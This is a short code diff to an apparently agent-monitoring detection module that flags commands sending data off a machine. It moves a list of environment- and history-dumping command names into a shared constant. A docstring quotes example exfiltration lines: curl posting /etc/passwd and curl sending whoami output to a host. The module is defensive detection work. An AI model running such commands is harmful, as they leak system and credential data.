@@ -14,6 +14,7 @@ from jupyter_agentwatch.detect.leaving import (
     ENCODING,
     GATHERING,
     SECRET,
+    TELLING,
     UPLOAD,
     names_before,
     sources_of,
@@ -123,7 +124,7 @@ def _substituted(run: Invocation, where: Endpoint | None) -> Iterable[Hit]:
     """`curl -d "$(cat /etc/passwd)"` and `curl http://host/$(whoami)`."""
     if where is not None and where.zone == "loopback":
         return
-    if any(is_sensitive(path) for path in sources_of(run)) or names_before(run) & {"env", "printenv", "history"}:
+    if any(is_sensitive(path) for path in sources_of(run)) or names_before(run) & TELLING:
         yield Hit(SECRET)
         return
     nameless = where is not None and (is_address(where.host) or DROPS.search(where.host))
